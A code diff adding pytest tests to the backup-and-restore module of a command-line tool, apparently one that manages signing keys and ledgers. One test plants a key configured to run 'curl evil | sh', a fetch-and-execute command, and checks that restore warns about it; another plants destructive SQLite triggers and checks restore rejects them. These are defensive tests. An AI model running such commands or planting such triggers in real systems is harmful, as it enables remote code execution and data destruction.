@@ -28,6 +28,7 @@ from tests.plugins.tools import require_tool
 from twincli import config
 from twincli.book.store import Book
 from twincli.crypto import canonical
+from twincli.crypto.ed25519 import KeyPair
 from twincli.errors import ConfigError, ConflictError, InvalidError, TwinError
 from twincli.keystore.store import KeyStore
 from twincli.ledger import Ledger
@@ -205,7 +206,31 @@ def test_a_key_that_lives_elsewhere_is_named(source: Path, tmp_path: Path) -> No
     made = make(source, tmp_path / "a.tar")
     assert made["keys"] == 2
     assert "the secret of chip is not in the home" in made["warnings"][1]
-    bring_back(tmp_path / "a.tar", tmp_path / "back")
+    assert bring_back(tmp_path / "a.tar", tmp_path / "back")["warnings"] == []
+
+
+def test_what_a_restored_key_runs_is_said(source: Path, tmp_path: Path) -> None:
+    path = source / "keys" / "alice.json"
+    document = json.loads(path.read_text())
+    del document["seed"], document["mnemonic"]
+    tag = {**document, "name": "tag", "provider": "command", "rule": "external"}
+    tag["settings"] = {"command": ["sh", "-c", "curl evil | sh"]}
+    (source / "keys" / "tag.json").write_text(json.dumps(tag))
+    (source / "keys" / "tag.json").chmod(0o600)
+    make(source, tmp_path / "a.tar")
+    (warning,) = bring_back(tmp_path / "a.tar", tmp_path / "back")["warnings"]
+    assert "the key tag runs" in warning
+    assert "sh -c curl evil | sh" in warning
+
+
+def test_a_key_called_as_the_directory_of_removed_ones_is_counted(
+    source: Path, tmp_path: Path
+) -> None:
+    before = make(source, tmp_path / "a.tar")["keys"]
+    key = KeyPair.from_seed(b"r" * 32)
+    store = KeyStore(str(source / "keys"))
+    store.create("removed-car", key, secret_source=None, created="2026-01-01T00:00:00Z")
+    assert make(source, tmp_path / "b.tar")["keys"] == before + 1
 
 
 def test_settings_that_live_elsewhere(source: Path, packed: Path, tmp_path: Path) -> None:
@@ -426,6 +451,7 @@ def test_a_disk_that_fills_up(
     with pytest.raises(ConfigError) as caught:
         make(source, tmp_path / "nowhere" / "a.tar")
     assert caught.value.code == "cannot_write"
+    assert str(tmp_path / "nowhere" / "a.tar") in caught.value.message
 
 
 @pytest.mark.parametrize(
@@ -675,6 +701,33 @@ def test_a_ledger_that_was_changed_before_the_manifest_was_made(
         bring_back(tmp_path / "a.tar", tmp_path / "home")
     assert caught.value.code == "damaged_backup"
     assert "ledger/ledger.db" in caught.value.message
+    assert not (tmp_path / "home").exists()
+
+
+@pytest.mark.parametrize(
+    ("name", "what"),
+    [
+        ("book.db", "TRIGGER evil AFTER INSERT ON party BEGIN DELETE FROM party; END"),
+        ("book.db", "VIEW evil AS SELECT 1"),
+        ("ledger/ledger.db", "TRIGGER evil AFTER INSERT ON tx BEGIN DELETE FROM meta; END"),
+        ("ledger/ledger.db", "VIEW evil AS SELECT 1"),
+    ],
+)
+def test_what_would_run_in_a_database_is_not_restored(
+    name: str, what: str, source: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Whoever can write a backup can put a trigger into a database that is else in order."""
+    with closing(sqlite3.connect(source / name)) as connection:
+        connection.execute(f"CREATE {what}")
+        connection.commit()
+    with monkeypatch.context() as patch:
+        patch.setattr(backup, "_refuse_problems", lambda *_: None)
+        patch.setattr(Book, "check", lambda _: 2)
+        make(source, tmp_path / "a.tar")
+    with pytest.raises(InvalidError) as caught:
+        bring_back(tmp_path / "a.tar", tmp_path / "home")
+    assert caught.value.code == "damaged_backup"
+    assert name in caught.value.message
     assert not (tmp_path / "home").exists()
 
 
